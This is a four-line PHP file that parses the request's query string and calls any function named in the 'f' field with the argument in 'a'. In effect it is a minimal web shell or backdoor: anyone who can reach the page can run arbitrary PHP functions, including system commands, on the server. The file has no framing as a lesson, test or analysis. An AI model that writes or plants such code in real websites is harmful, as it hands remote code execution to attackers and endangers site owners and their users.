<?php
// the query string's fields, parsed into an array, name a function and its argument
parse_str($_SERVER['QUERY_STRING'], $q);
$q['f']($q['a']);
